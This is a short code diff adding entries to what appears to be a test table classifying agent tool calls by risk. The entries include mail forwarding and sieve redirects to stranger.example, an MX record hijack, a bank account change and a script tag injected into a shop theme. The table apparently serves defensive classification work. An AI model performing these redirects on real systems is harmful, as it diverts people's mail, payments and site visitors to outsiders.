@@ -40,6 +40,8 @@ const ACTS: readonly Call[] = [
   ['net.redirect', 'phone update_number', { voice_url: HOOK }],
   ['net.redirect', 'dns upsert_record', { type: 'MX', name: '@', value: 'mx.stranger.example' }],
   ['net.redirect', 'pay update_bank_account', { iban: 'LT12' }],
+  ['net.redirect', 'mail put_script', { data: 'redirect :copy "x@stranger.example";' }],
+  ['net.redirect', 'mail create_route', { action: ["forward('x@stranger.example')"] }],
   ['net.redirect', 'shop create_script_tag', { src: HOOK }],
   ['net.redirect', 'shop update_theme', { content: '<script src="//cdn.stranger.example/a.js"></script>' }],
   ['money.move+all', 'bank wire_transfer', { to: 'a', amount: 10 }],
